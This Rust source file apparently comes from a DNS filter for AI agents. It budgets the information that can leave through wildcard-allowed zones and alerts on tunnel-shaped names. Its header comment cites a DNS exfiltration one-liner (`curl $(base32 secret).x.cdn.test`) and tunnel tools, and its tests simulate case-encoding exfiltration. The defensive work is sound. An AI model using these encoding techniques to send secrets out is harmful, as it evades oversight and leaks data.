//! Exfiltration through allowed wildcards: what a wildcard rule answers, and
//! how much information an agent may push out in the names it asks about.
//!
//! A denied name never leaves, but under `*.cdn.test` every new name goes
//! upstream, so whoever runs the DNS of an allowed zone can read data encoded
//! in labels (iodine, dnscat2, `curl $(base32 secret).x.cdn.test`). Two
//! fences, both only for wildcard rules (exact names carry no chosen data):
//!
//! - **Query types.** A wildcard answers A, AAAA, CNAME, HTTPS and SVCB
//!   unless its entry lists `qtypes:`; the rest (TXT, NULL, ANY, private
//!   types: the tunnels' favourites) is REFUSED, alerted and audited.
//! - **A budget** per agent and registrable domain: each question that
//!   would go upstream is charged an estimate of the bits it can carry (a
//!   new name's labels; for a name already sent, which of the domain's
//!   names it is; its type; the question itself); the charge drains at a
//!   steady rate. Past the soft limit: an alert and an audit mark. Past the
//!   hard limit: new names under that domain are REFUSED for a cooldown,
//!   and re-asked ones wait for the drain. Answers under a budgeted
//!   wildcard are held at least `min_ttl_secs` (resolve.rs), so re-asks
//!   within it are cache hits: they never leave and cost nothing.
//! - **A shape signal**: new names with a run of more than 128 random-looking
//!   bits (tunnel labels) alert from the 8th under a domain.
//!
//! Memory per agent is fixed ([`AGENT_BYTES`]): a two-generation Bloom
//! filter of seen names and labels, a count-min sketch of leaky buckets
//! (conservative update, so a domain's estimate never falls below its true
//! charge: collisions can only deny early, never let data through), and a
//! small table of domains in cooldown. The design follows the
//! information-based heavy hitters idea (ibHH, arXiv 2307.02614): count
//! information, not queries, in constant space. See docs/exfiltration.md.

use std::collections::HashMap;
use std::hash::{BuildHasher, Hash, Hasher};
use std::net::SocketAddr;
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use hickory_proto::rr::{Name, RecordType};

use crate::observe::throttle::Throttle;
pub use crate::policy::exfil_limits::{
    DEFAULT_COOLDOWN_SECS, DEFAULT_DRAIN_BYTES_PER_MIN, DEFAULT_HARD_BYTES, DEFAULT_SOFT_BYTES,
    Limits,
};
use crate::policy::name::QueryKey;
pub use crate::policy::qtypes::{is_wildcard, qtype_allowed};
use crate::policy::{PatternFacts, PolicySet};
use crate::state::PerAgent;
use crate::sync::lock;

/// What the budget says about one question.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Verdict {
    /// Send it, with an audit mark when the domain is past its soft limit
    /// or shows names shaped like a tunnel's.
    Pass(Option<Mark>),
    /// Refuse it: the domain is past its hard limit, or in cooldown.
    Deny,
}

/// The audit mark: why a record is flagged (`"exfil":"..."`).
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Mark {
    /// Allowed, but its domain is past the soft limit.
    Soft,
    /// Refused: the domain is past the hard limit or in cooldown.
    Budget,
    /// Refused: the query type is not answered under this wildcard.
    Qtype,
    /// Allowed, under the soft limit, but its domain shows names shaped
    /// like a tunnel's.
    Tunnel,
}

impl Mark {
    pub fn as_str(self) -> &'static str {
        match self {
            Mark::Soft => "soft",
            Mark::Budget => "budget",
            Mark::Qtype => "qtype",
            Mark::Tunnel => "tunnel",
        }
    }
}

/// Bloom filter bits per generation (16 KiB), hash functions, and how
/// many insertions fill a generation (then the older one is dropped):
/// about 0.5 % false "seen" at the fullest.
const SEEN_WORDS: usize = (1 << 17) / 64;
const SEEN_K: u64 = 3;
const SEEN_FILL: u32 = 8192;
/// A generation also ends after this long, so "seen" means "recently".
const SEEN_AGE_DS: u32 = 36_000;
/// Count-min sketch of leaky buckets.
const DEPTH: usize = 4;
const WIDTH: usize = 1024;
/// Domains in cooldown remembered at once; beyond it the sketch still
/// holds their buckets full, so they trip again on the next new name.
const BLOCKED: usize = 16;
/// Charged for every question that goes upstream, on top of what its name
/// carries: the fact and time of a query carry information too (see
/// docs/exfiltration.md for why 8 bits cover the timing at the drain rate),
/// and it makes floods of tiny names, or of re-asked ones, count.
const PER_QUERY_BITS: f32 = 8.0;
/// A run of a label (between hyphens) estimated to carry more than this
/// looks like encoded data: identifiers (UUIDs, 32-hex ids) carry at most
/// 128 random bits, and the corpus of legitimate names tops out there.
const SHAPE_RUN_BITS: f32 = 128.0;
/// Tunnel-shaped new names under one domain, per Bloom generation, before
/// the alert: one odd legitimate name raises nothing.
const SHAPE_NAMES: u32 = 8;
/// Least charged for a label already seen under the same domain. A seen
/// label still carries a choice among the labels seen there: it is charged
/// log2 of how many distinct labels the domain has shown (see `distinct`),
/// at least this, at most what the label would cost new.
const SEEN_LABEL_BITS: f32 = 2.0;
/// Count-min sketch (conservative update) of distinct labels first seen per
/// domain, one per Bloom generation: 2 x 4 x 256 u16 = 4 KiB.
const LABEL_WIDTH: usize = 256;
/// At most one qtype/cooldown denial alert per agent this often.
const ALERT_EVERY: Duration = Duration::from_secs(5);

#[derive(Clone, Copy, Default)]
struct Cell {
    level: f32,
    /// Deciseconds since the budgets started.
    at: u32,
}

/// One agent's state. Fixed size, no heap: this is the per-agent bound.
pub struct AgentBudget {
    seen: [[u64; SEEN_WORDS]; 2],
    current: usize,
    inserted: u32,
    generation_start: u32,
    cells: [[Cell; WIDTH]; DEPTH],
    /// Distinct labels first seen per domain, per Bloom generation (the
    /// older generation's count is dropped with it).
    distinct: [[[u16; LABEL_WIDTH]; DEPTH]; 2],
    /// (domain hash, cooldown end in deciseconds); 0 is a free slot.
    blocked: [(u64, u32); BLOCKED],
    /// Rate limit for denial alerts.
    alerted: Throttle,
    /// The name of the agent's last question charged: asking it again
    /// (AAAA after A) chooses no name.
    last: u64,
}

/// Bytes of one agent's state: the memory bound per agent.
pub const AGENT_BYTES: usize = std::mem::size_of::<AgentBudget>();
// The stated bound (docs/exfiltration.md): two 16 KiB generations, 4 x 1024
// 8-byte cells, 4 KiB of distinct-label counts, a small table. Checked when compiling.
const _: () = assert!(AGENT_BYTES <= 70 * 1024);

/// Every agent's budget.
pub struct Budgets {
    agents: Mutex<HashMap<Arc<str>, Box<AgentBudget>>>,
    /// Random keys: an attacker cannot aim names at one sketch cell.
    hasher: std::collections::hash_map::RandomState,
    epoch: Instant,
    /// Tests only: charge as before the red-team fixes (positive controls).
    legacy: bool,
}

impl Default for Budgets {
    fn default() -> Self {
        Budgets {
            agents: Mutex::default(),
            hasher: std::collections::hash_map::RandomState::new(),
            epoch: Instant::now(),
            legacy: false,
        }
    }
}

impl Budgets {
    /// Number of agents tracked (each costs [`AGENT_BYTES`]).
    pub fn agents(&self) -> usize {
        lock(&self.agents).len()
    }

    /// Drops the state of agents `keep` does not name.
    pub fn retain(&self, keep: impl Fn(&str) -> bool) {
        let mut agents = lock(&self.agents);
        agents.retain(|agent, _| keep(agent));
    }

    fn now_ds(&self) -> u32 {
        // +1 keeps 0 free as the "empty slot" time.
        u32::try_from(self.epoch.elapsed().as_millis() / 100).unwrap_or(u32::MAX - 1) + 1
    }

    fn hash(&self, parts: &[&[u8]]) -> u64 {
        let mut h = self.hasher.build_hasher();
        for p in parts {
            p.hash(&mut h);
        }
        h.finish()
    }

    /// Charges a name about to go upstream under a wildcard rule whose
    /// pattern has `facts`. `key` is its canonical form, computed once for the
    /// question; the labels are read from `name` as sent, without respelling it.
    ///
    /// Case: the name goes upstream as the client wrote it (the reply must
    /// echo the client's question, and 0x20 case randomisation relies on
    /// it), so its case reaches whoever runs the zone. Rather than rewrite
    /// names on the shared resolve/cache path, labels are hashed and charged
    /// as sent: a recased label is a new label, and its alphabet counts
    /// upper case (log2 53 instead of log2 27 bits a letter).
    pub fn charge(
        &self,
        agent: &Arc<str>,
        limits: &Limits,
        name: &Name,
        key: &QueryKey,
        facts: PatternFacts,
        types: usize,
    ) -> Verdict {
        if !limits.enabled {
            return Verdict::Pass(None);
        }
        let key = key.as_str();
        let domain = if self.legacy {
            registrable(key)
        } else {
            budget_domain(key, facts)
        };
        // Labels as sent, below the budget's domain: the key has one label
        // for each of the name's, so counting the domain's is enough.
        let domain_labels = if domain.is_empty() {
            0
        } else {
            domain.bytes().filter(|&b| b == b'.').count() + 1
        };
        let head = name.iter().len().saturating_sub(domain_labels);
        // The name as sent, for alerts only.
        let sent = || {
            let ascii = name.to_ascii();
            ascii.strip_suffix('.').unwrap_or(&ascii).to_string()
        };
        let now = self.now_ds();
        let name_h = {
            let mut h = self.hasher.build_hasher();
            b"n".hash(&mut h);
            for label in name.iter() {
                label.hash(&mut h);
            }
            h.finish()
        };
        let domain_h = self.hash(&[b"d", domain.as_bytes()]).max(1);
        // Keys of the domain's name count and tunnel-shape count in the
        // distinct-label sketch.
        let names_h = self.hash(&[b"names", domain.as_bytes()]);
        let shape_h = self.hash(&[b"shape", domain.as_bytes()]);
        let mut agents = lock(&self.agents);
        let budget = agents.entry(agent.clone()).or_insert_with(AgentBudget::new);
        budget.rotate(now);
        let seen = budget.seen(name_h);
        if seen && self.legacy {
            return Verdict::Pass(None);
        }
        let blocked = budget.blocked_until(domain_h, now);
        if let (Some(until), false) = (blocked, seen) {
            if let Some(suppressed) = budget.alerted.admit() {
                tracing::warn!(
                    agent = %agent, domain, qname = %sent(), suppressed,
                    cooldown_left_s = (until - now) / 10,
                    "[!] EXFILTRATION BUDGET: new name refused, domain in cooldown"
                );
            }
            return Verdict::Deny;
        }
        // Every question that leaves tells the zone's operator that it was
        // asked, when, and which of the rule's types it asks for.
        let mut cost = PER_QUERY_BITS;
        if !self.legacy {
            cost += (types.max(1) as f32).log2();
        }
        let mut label_hashes = [0u64; 128];
        let mut labels = 0;
        let mut fresh = 0u16;
        let mut full_bits = 0.0;
        let mut shaped = false;
        // What a seen label can carry: a choice among the domain's labels.
        let choice = budget.distinct(domain_h).max(1) as f32;
        let mut new_cost = 0.0;
        for label in name.iter().take(head).filter(|l| !l.is_empty()) {
            let full = label_bits(label);
            full_bits += full;
            shaped |= run_bits(label) > SHAPE_RUN_BITS;
            if seen {
                continue;
            }
            let lowered;
            let hashed = if self.legacy {
                lowered = label.to_ascii_lowercase();
                lowered.as_slice()
            } else {
                label
            };
            let h = self.hash(&[b"l", domain.as_bytes(), hashed]);
            new_cost += if !budget.seen(h) {
                fresh = fresh.saturating_add(1);
                full
            } else if self.legacy {
                SEEN_LABEL_BITS
            } else {
                choice.log2().max(SEEN_LABEL_BITS).min(full)
            };
            if labels < label_hashes.len() {
                label_hashes[labels] = h;
                labels += 1;
            }
        }
        cost += if seen && budget.last == name_h {
            // The same name as the agent's last question (AAAA after A):
            // one choice, "again", whose cost the query's type and time cover.
            0.0
        } else if seen {
            // A name already sent carries which of the domain's names it is:
            // at most log2 of how many the domain has shown, and never more
            // than it would carry new.
            (budget.distinct(names_h).max(1) as f32)
                .log2()
                .min(full_bits)
        } else {
            new_cost
        };
        let drain = limits.drain_bits_per_sec / 10.0;
        let before = budget.estimate(domain_h, now, drain);
        if before + cost > limits.hard_bits {
            match blocked {
                Some(until) => {
                    if let Some(suppressed) = budget.alerted.admit() {
                        tracing::warn!(
                            agent = %agent, domain, qname = %sent(), suppressed,
                            cooldown_left_s = (until - now) / 10,
                            "[!] EXFILTRATION BUDGET: re-asked name refused, domain in cooldown"
                        );
                    }
                }
                None => {
                    budget.fill(domain_h, now, drain, limits.hard_bits);
                    let until = now.saturating_add(
                        u32::try_from(limits.cooldown.as_millis() / 100).unwrap_or(u32::MAX / 2),
                    );
                    budget.block(domain_h, until);
                    tracing::error!(
                        agent = %agent, domain, qname = %sent(),
                        estimated_bytes = (before / 8.0) as u64,
                        hard_bytes = (limits.hard_bits / 8.0) as u64,
                        cooldown_s = limits.cooldown.as_secs(),
                        "[!] EXFILTRATION BUDGET EXCEEDED: new names under this domain refused for the cooldown"
                    );
                }
            }
            return Verdict::Deny;
        }
        let after = budget.add(domain_h, now, drain, cost);
        budget.last = name_h;
        if !seen {
            budget.count_distinct(domain_h, fresh);
            budget.count_distinct(names_h, 1);
            budget.insert(name_h);
            for h in &label_hashes[..labels] {
                budget.insert(*h);
            }
        }
        if before < limits.soft_bits && after >= limits.soft_bits {
            tracing::warn!(
                agent = %agent, domain, qname = %sent(),
                estimated_bytes = (after / 8.0) as u64,
                soft_bytes = (limits.soft_bits / 8.0) as u64,
                "[!] EXFILTRATION BUDGET: soft limit passed (new names under this domain carry much data)"
            );
        }
        let mut tunnel = false;
        if shaped && !self.legacy {
            let shapes = budget.distinct(shape_h);
            if !seen {
                budget.count_distinct(shape_h, 1);
                if shapes < SHAPE_NAMES && budget.distinct(shape_h) >= SHAPE_NAMES {
                    tracing::warn!(
                        agent = %agent, domain, qname = %sent(), names = SHAPE_NAMES,
                        estimated_bytes = (after / 8.0) as u64,
                        "[!] EXFILTRATION: names shaped like a DNS tunnel (labels with more than 128 random-looking bits) under this domain"
                    );
                }
            }
            tunnel = budget.distinct(shape_h) >= SHAPE_NAMES;
        }
        Verdict::Pass(if after >= limits.soft_bits {
            Some(Mark::Soft)
        } else {
            tunnel.then_some(Mark::Tunnel)
        })
    }

    /// Alerts (rate-limited per agent) that a wildcard refused a query type.
    pub fn qtype_denied(
        &self,
        agent: &Arc<str>,
        client: SocketAddr,
        name: &Name,
        qtype: RecordType,
        rule: &str,
    ) {
        let mut agents = lock(&self.agents);
        let budget = agents.entry(agent.clone()).or_insert_with(AgentBudget::new);
        if let Some(suppressed) = budget.alerted.admit() {
            tracing::warn!(
                agent = %agent, %client, qname = %name, %qtype, rule,
                suppressed,
                "[!] QUERY TYPE REFUSED under a wildcard (list it in the entry's qtypes to allow it)"
            );
        }
    }
}

/// The registrable domain a canonical name is charged to (the name itself
/// when it is a public suffix or has no parent).
fn registrable(key: &str) -> &str {
    crate::policy::registrable_domain(key).unwrap_or(key)
}

/// The domain whose budget a name under a rule with pattern `facts` is
/// charged to: its registrable domain, unless the pattern's fixed suffix
/// (the labels after its last wildcard) is shorter: then the pattern's
/// chosen labels reach into the registrable domain itself, and each
/// `<data>.github.io` under `*.github.io` would get a fresh budget. Such
/// names are pooled under the longer of the fixed suffix and the name's
/// public suffix: `github.io` for `*.github.io`; `s3.amazonaws.com` for a
/// bucket under `*.amazonaws.com`. Not coarser than the public suffix, so
/// that a broad wildcard over a provider (whose DNS the provider runs)
/// keeps one budget per service and region as the public suffix list draws
/// them, rather than one for all of them (which the legitimate corpus
/// overruns). Only the registrable domain is worked out per name; the
/// pattern's part was at load time ([`PatternFacts::of`]).
pub fn budget_domain(key: &str, facts: PatternFacts) -> &str {
    let domain = registrable(key);
    if !facts.wildcard {
        return domain;
    }
    let fixed = usize::from(facts.fixed_labels);
    let labels = |s: &str| {
        if s.is_empty() {
            0
        } else {
            s.split('.').count()
        }
    };
    if fixed >= labels(domain) {
        return domain;
    }
    let public = domain.split_once('.').map_or("", |(_, suffix)| suffix);
    let n = fixed.max(labels(public));
    if n == 0 {
        return "";
    }
    // The key's last n labels.
    let cut = key
        .rmatch_indices('.')
        .nth(n - 1)
        .map_or(0, |(at, _)| at + 1);
    &key[cut..]
}

/// The most a label can carry: its length times the bits per character of
/// the smallest common alphabet holding it. An upper bound on purpose (a
/// short random label's empirical entropy understates it); words repeat,
/// and repeated labels are charged [`SEEN_LABEL_BITS`].
pub fn label_bits(label: &[u8]) -> f32 {
    let (mut lower, mut upper, mut digit, mut other, mut hex_only) =
        (false, false, false, false, true);
    for &b in label {
        match b {
            b'a'..=b'f' => lower = true,
            b'g'..=b'z' => {
                lower = true;
                hex_only = false;
            }
            b'A'..=b'Z' => {
                upper = true;
                hex_only = false;
            }
            b'0'..=b'9' => digit = true,
            b'-' => {}
            _ => other = true,
        }
    }
    let alphabet: f32 = if other {
        256.0
    } else if hex_only && !upper {
        if lower { 17.0 } else { 11.0 }
    } else {
        let mut n = 1.0; // '-'
        if lower {
            n += 26.0;
        }
        if upper {
            n += 26.0;
        }
        if digit {
            n += 10.0;
        }
        n
    };
    label.len() as f32 * alphabet.log2()
}

/// The most any hyphen-separated run of a label can carry, each run judged
/// by its own smallest alphabet (digits, hex, letters of one case, letters
/// and digits, ...): the tunnel-shape signal. Unlike [`label_bits`] this is
/// not an upper bound on what the label carries but a measure of its
/// longest random-looking stretch: `pub-` + 32 hex is 128 bits, 40 hex 160.
pub fn run_bits(label: &[u8]) -> f32 {
    label
        .split(|&b| b == b'-')
        .map(|run| {
            let (mut lower, mut upper, mut digit, mut other, mut hex) =
                (false, false, false, false, true);
            for &b in run {
                match b {
                    b'a'..=b'f' => lower = true,
                    b'g'..=b'z' => {
                        lower = true;
                        hex = false;
                    }
                    b'A'..=b'Z' => {
                        upper = true;
                        hex = false;
                    }
                    b'0'..=b'9' => digit = true,
                    _ => other = true,
                }
            }
            let alphabet: f32 = if other {
                256.0
            } else if hex && !upper {
                if lower { 16.0 } else { 10.0 }
            } else {
                26.0 * (f32::from(u8::from(lower)) + f32::from(u8::from(upper)))
                    + if digit { 10.0 } else { 0.0 }
            };
            run.len() as f32 * alphabet.log2()
        })
        .fold(0.0, f32::max)
}

impl AgentBudget {
    fn new() -> Box<Self> {
        Box::new(AgentBudget {
            seen: [[0; SEEN_WORDS]; 2],
            current: 0,
            inserted: 0,
            generation_start: 0,
            cells: [[Cell::default(); WIDTH]; DEPTH],
            distinct: [[[0; LABEL_WIDTH]; DEPTH]; 2],
            blocked: [(0, 0); BLOCKED],
            alerted: Throttle::new(ALERT_EVERY),
            last: 0,
        })
    }

    fn bits(h: u64) -> impl Iterator<Item = usize> {
        let (a, b) = (h, (h >> 32) | 1);
        (0..SEEN_K)
            .map(move |i| (a.wrapping_add(i.wrapping_mul(b)) % (SEEN_WORDS as u64 * 64)) as usize)
    }

    fn seen(&self, h: u64) -> bool {
        self.seen
            .iter()
            .any(|g| Self::bits(h).all(|bit| g[bit / 64] & (1 << (bit % 64)) != 0))
    }

    fn insert(&mut self, h: u64) {
        for bit in Self::bits(h) {
            self.seen[self.current][bit / 64] |= 1 << (bit % 64);
        }
        self.inserted += 1;
    }

    /// Starts a new generation when the current one is full or old.
    fn rotate(&mut self, now: u32) {
        if self.generation_start == 0 {
            self.generation_start = now;
        }
        if self.inserted >= SEEN_FILL || now.saturating_sub(self.generation_start) >= SEEN_AGE_DS {
            self.current ^= 1;
            self.seen[self.current] = [0; SEEN_WORDS];
            self.distinct[self.current] = [[0; LABEL_WIDTH]; DEPTH];
            self.inserted = 0;
            self.generation_start = now;
        }
    }

    fn column(h: u64, row: usize) -> usize {
        let (a, b) = (h, (h >> 29) | 1);
        (a.wrapping_add((row as u64).wrapping_mul(b))
            .rotate_left(row as u32 * 13)
            % WIDTH as u64) as usize
    }

    /// Distinct labels the domain has shown in both live generations:
    /// never below the truth (count-min; a label in both counts twice).
    fn distinct(&self, h: u64) -> u32 {
        self.distinct
            .iter()
            .map(|g| {
                (0..DEPTH)
                    .map(|row| g[row][Self::column(h, row) % LABEL_WIDTH])
                    .min()
                    .unwrap_or(0) as u32
            })
            .sum()
    }

    fn count_distinct(&mut self, h: u64, fresh: u16) {
        if fresh == 0 {
            return;
        }
        let g = &mut self.distinct[self.current];
        let target = (0..DEPTH)
            .map(|row| g[row][Self::column(h, row) % LABEL_WIDTH])
            .min()
            .unwrap_or(0)
            .saturating_add(fresh);
        for (row, counts) in g.iter_mut().enumerate() {
            let c = &mut counts[Self::column(h, row) % LABEL_WIDTH];
            *c = (*c).max(target);
        }
    }

    fn level(cell: &Cell, now: u32, drain_per_ds: f32) -> f32 {
        (cell.level - now.saturating_sub(cell.at) as f32 * drain_per_ds).max(0.0)
    }

    /// The domain's charge: never below the truth (count-min).
    fn estimate(&self, h: u64, now: u32, drain: f32) -> f32 {
        (0..DEPTH)
            .map(|row| Self::level(&self.cells[row][Self::column(h, row)], now, drain))
            .fold(f32::INFINITY, f32::min)
    }

    /// Conservative update: raise each cell only to the new estimate.
    fn add(&mut self, h: u64, now: u32, drain: f32, cost: f32) -> f32 {
        let target = self.estimate(h, now, drain) + cost;
        self.fill(h, now, drain, target);
        target
    }

    fn fill(&mut self, h: u64, now: u32, drain: f32, target: f32) {
        for row in 0..DEPTH {
            let cell = &mut self.cells[row][Self::column(h, row)];
            let level = Self::level(cell, now, drain);
            *cell = Cell {
                level: level.max(target),
                at: now,
            };
        }
    }

    fn blocked_until(&self, h: u64, now: u32) -> Option<u32> {
        self.blocked
            .iter()
            .find(|(d, until)| *d == h && *until > now)
            .map(|(_, until)| *until)
    }

    /// Remembers a cooldown; a full table gives up the one ending soonest.
    fn block(&mut self, h: u64, until: u32) {
        let slot = self
            .blocked
            .iter_mut()
            .min_by_key(|(d, u)| if *d == h { 0 } else { *u })
            .expect("non-empty table");
        *slot = (h, until);
    }
}

/// The budgets of agents a reload removed go with them.
impl PerAgent for Budgets {
    fn agents_changed(&self, files: &PolicySet) {
        self.retain(|agent| files.by_agent(agent).is_some());
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn name(s: &str) -> Name {
        Name::from_ascii(s).unwrap()
    }

    fn key(s: &str) -> QueryKey {
        QueryKey::of(&name(s)).unwrap()
    }

    fn charge(b: &Budgets, limits: &Limits, s: &str) -> Verdict {
        let key = key(s);
        let pattern = format!("*.{}", registrable(key.as_str()));
        b.charge(
            &"a".into(),
            limits,
            &name(s),
            &key,
            PatternFacts::of(&pattern),
            5,
        )
    }

    #[test]
    fn agents_whose_policy_went_are_dropped() {
        let b = Budgets::default();
        charge(&b, &Limits::default(), "x.cdn.test");
        assert_eq!(b.agents(), 1);
        b.retain(|agent| agent == "a");
        assert_eq!(b.agents(), 1);
        b.retain(|_| false);
        assert_eq!(b.agents(), 0);
    }

    #[test]
    fn label_bits_bound_the_alphabet() {
        assert_eq!(label_bits(b"0123"), 4.0 * 11f32.log2());
        assert!((label_bits(b"deadbeef") - 8.0 * 17f32.log2()).abs() < 1e-3);
        assert!((label_bits(b"r4---sn-5hne6nsz") - 16.0 * 37f32.log2()).abs() < 1e-3);
        assert!(label_bits(b"aBc") > label_bits(b"abc"));
    }

    #[test]
    fn a_tunnel_hits_the_hard_limit_then_cools_down_and_re_asks_wait_for_the_drain() {
        let b = Budgets::default();
        let limits = Limits::from_bytes(true, 1024, 2048, 0, 600);
        assert_eq!(charge(&b, &limits, "www.cdn.test"), Verdict::Pass(None));
        let mut passed = 0;
        let mut first_deny = None;
        for i in 0..1000 {
            let n = format!("{:0>60}.t.cdn.test", format!("{i:x}"));
            match charge(&b, &limits, &n) {
                Verdict::Pass(_) => passed += 1,
                Verdict::Deny => {
                    first_deny.get_or_insert(i);
                }
            }
        }
        // 60 hex-ish chars ~ 245 bits + overhead per name: ~64 names fit in 16 kbit.
        assert!((40..80).contains(&passed), "{passed}");
        let _ = first_deny.unwrap();
        // A seen name asked upstream again carries a choice too: with the
        // bucket full and no drain it waits; other domains are untouched.
        assert_eq!(charge(&b, &limits, "www.cdn.test"), Verdict::Deny);
        assert!(matches!(
            charge(&b, &limits, "new.other.test"),
            Verdict::Pass(_)
        ));
        assert_eq!(charge(&b, &limits, "tiny.cdn.test"), Verdict::Deny);
    }

    #[test]
    fn soft_limit_marks_and_repeated_names_are_cheap() {
        let b = Budgets::default();
        let limits = Limits::from_bytes(true, 512, 100_000, 0, 600);
        let mut marked = 0;
        for i in 0..200 {
            if charge(&b, &limits, &format!("img{}.static.shop.test", i % 3)) != Verdict::Pass(None)
            {
                marked += 1;
            }
        }
        assert_eq!(
            marked, 0,
            "three names, asked upstream again and again, cost ~12 bits a time"
        );
        let mut marked = 0;
        for i in 0..200 {
            if charge(&b, &limits, &format!("{i:08x}.shop.test")) == Verdict::Pass(Some(Mark::Soft))
            {
                marked += 1;
            }
        }
        assert!(marked > 150, "{marked}");
    }

    #[test]
    fn the_budget_drains() {
        let b = Budgets::default();
        // Drains 1 KiB per second: the full budget is gone in a second.
        let limits = Limits::from_bytes(true, 512, 1024, 60 * 1024, 0);
        for i in 0..100 {
            charge(&b, &limits, &format!("{i:0>50}.x.test"));
        }
        assert_eq!(charge(&b, &limits, "fresh000.x.test"), Verdict::Deny);
        std::thread::sleep(std::time::Duration::from_millis(1300));
        assert!(matches!(
            charge(&b, &limits, "fresh123.x.test"),
            Verdict::Pass(None)
        ));
    }

    #[test]
    fn the_legit_corpus_stays_under_the_soft_limit_without_any_drain() {
        let corpus = std::fs::read_to_string(concat!(
            env!("CARGO_MANIFEST_DIR"),
            "/tests/data/legit-names.txt"
        ))
        .unwrap();
        let limits = Limits {
            drain_bits_per_sec: 0.0,
            ..Limits::default()
        };
        for legacy in [true, false] {
            let b = Budgets {
                legacy,
                ..Budgets::default()
            };
            for n in corpus.lines() {
                // As tests/exfil.rs allows them: `*.` and the zone's two labels.
                let zone = n.rsplitn(3, '.').take(2).collect::<Vec<_>>();
                let pattern = format!("*.{}.{}", zone[1], zone[0]);
                // A browser's A, AAAA and HTTPS: three questions upstream.
                for _ in 0..3 {
                    let v = b.charge(
                        &"a".into(),
                        &limits,
                        &name(n),
                        &key(n),
                        PatternFacts::of(&pattern),
                        5,
                    );
                    if !legacy {
                        assert_eq!(v, Verdict::Pass(None), "{n}");
                    }
                }
            }
            // The heaviest domain, for the docs.
            let agents = b.agents.lock().unwrap();
            let a = agents.get("a").unwrap();
            let max = a.cells[0].iter().map(|c| c.level).fold(0.0, f32::max);
            eprintln!("legacy {legacy}: heaviest cell: {} bytes", max / 8.0);
        }
    }

    /// Bytes of payload that got through: names passed times the bits each
    /// carries, under the current charge and the pre-fix one.
    fn leaked(names: &[String], pattern: &str, payload_bits: f32) -> (f32, f32) {
        let facts = PatternFacts::of(pattern);
        let limits = Limits {
            drain_bits_per_sec: 0.0,
            ..Limits::default()
        };
        let run = |legacy: bool| {
            let b = Budgets {
                legacy,
                ..Budgets::default()
            };
            let passed = names
                .iter()
                .filter(|n| {
                    b.charge(&"a".into(), &limits, &name(n), &key(n), facts, 5) != Verdict::Deny
                })
                .count();
            passed as f32 * payload_bits / 8.0
        };
        (run(true), run(false))
    }

    const HARD: f32 = DEFAULT_HARD_BYTES as f32;

    #[test]
    fn letter_case_carries_no_free_information() {
        // The red team's casex.py: 3 x 63 'a's, each letter's case a bit.
        let mut rng = 7u64;
        let mut bit = || {
            rng = rng
                .wrapping_mul(6364136223846793005)
                .wrapping_add(1442695040888963407);
            rng >> 63 == 1
        };
        let names: Vec<String> = (0..3000)
            .map(|_| {
                let label = |bit: &mut dyn FnMut() -> bool| -> String {
                    (0..63).map(|_| if bit() { 'A' } else { 'a' }).collect()
                };
                format!(
                    "{}.{}.{}.cdn.test",
                    label(&mut bit),
                    label(&mut bit),
                    label(&mut bit)
                )
            })
            .collect();
        let (before, after) = leaked(&names, "*.cdn.test", 189.0);
        eprintln!("case: {before} bytes before, {after} after (hard {HARD})");
        assert!(before > 4.0 * HARD, "positive control: {before}");
        assert!(after < HARD, "{after}");
    }

    fn under<'a>(key: &'a str, pattern: &str) -> &'a str {
        budget_domain(key, PatternFacts::of(pattern))
    }

    /// The charge's domain as it was worked out before the pattern's facts
    /// were computed at load time, scanning the pattern per question: the
    /// reference [`budget_domain`] must agree with.
    fn budget_domain_by_pattern<'a>(key: &'a str, pattern: &str) -> &'a str {
        let domain = registrable(key);
        let fixed = match pattern.rfind(['*', '?']) {
            Some(at) => pattern[at..].split_once('.').map_or("", |(_, rest)| rest),
            None => return domain,
        };
        let labels = |s: &str| {
            if s.is_empty() {
                0
            } else {
                s.split('.').count()
            }
        };
        if labels(fixed) >= labels(domain) {
            return domain;
        }
        let public = domain.split_once('.').map_or("", |(_, suffix)| suffix);
        let n = labels(fixed).max(labels(public));
        if n == 0 {
            return "";
        }
        // The key's last n labels.
        let cut = key
            .rmatch_indices('.')
            .nth(n - 1)
            .map_or(0, |(at, _)| at + 1);
        &key[cut..]
    }

    #[test]
    fn pattern_facts_computed_at_load_agree_with_scanning_the_pattern() {
        use crate::diagnostics::Diagnostics;
        use std::path::Path;
        let data = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/data/");
        let mut patterns: Vec<(String, PatternFacts)> = Vec::new();
        for file in ["names-policy.yaml", "policy.yaml"] {
            let path = Path::new(data).join(file);
            let source = std::fs::read_to_string(&path).unwrap();
            let mut d = Diagnostics::default();
            let policy = crate::policy::compile_source(&path, &source, &mut d)
                .unwrap_or_else(|| panic!("{file}: {:?}", d.errors().collect::<Vec<_>>()));
            for rule in policy.rules.iter().chain(policy.entries()) {
                patterns.push((rule.pattern.to_string(), rule.facts));
            }
        }
        // Shapes the fixtures may lack: a bare `*`, `?`, a wildcard
        // inside a label, several wildcards, a public suffix.
        for p in [
            "*",
            "*.github.io",
            "*.amazonaws.com",
            "img-*.cdn.shop.co.uk",
            "a?c.test",
            "*.*.example.com",
            "x*y.b.test",
            "*.co.uk",
        ] {
            patterns.push((p.to_string(), PatternFacts::of(p)));
        }
        assert!(
            patterns.iter().any(|(_, f)| f.wildcard),
            "positive control: a wildcard"
        );
        assert!(
            patterns.iter().any(|(_, f)| !f.wildcard),
            "positive control: an exact name"
        );

        let tsv = std::fs::read_to_string(format!("{data}names.tsv")).unwrap();
        let mut keys: Vec<String> = tsv
            .lines()
            .filter(|l| !l.starts_with('#') && !l.starts_with("name\t"))
            .filter_map(|l| l.split('\t').next())
            .filter_map(|n| Name::from_ascii(n).ok())
            .filter_map(|n| QueryKey::of(&n))
            .map(|k| k.as_str().to_string())
            .collect();
        for (p, _) in &patterns {
            for fill in ["a", "a.b", "x1-y"] {
                keys.push(p.replace(['*', '?'], fill));
            }
        }
        assert!(keys.len() > 100, "{} keys", keys.len());

        let mut pooled = 0;
        for (p, facts) in &patterns {
            assert_eq!(facts.wildcard, is_wildcard(p), "{p}");
            for k in &keys {
                let old = budget_domain_by_pattern(k, p);
                assert_eq!(budget_domain(k, *facts), old, "key {k} under {p}");
                pooled += usize::from(old != registrable(k));
            }
        }
        // Positive control: the pooling branch was taken, not only the default.
        assert!(pooled > 0);
    }

    #[test]
    fn a_wildcard_on_a_public_suffix_shares_one_budget() {
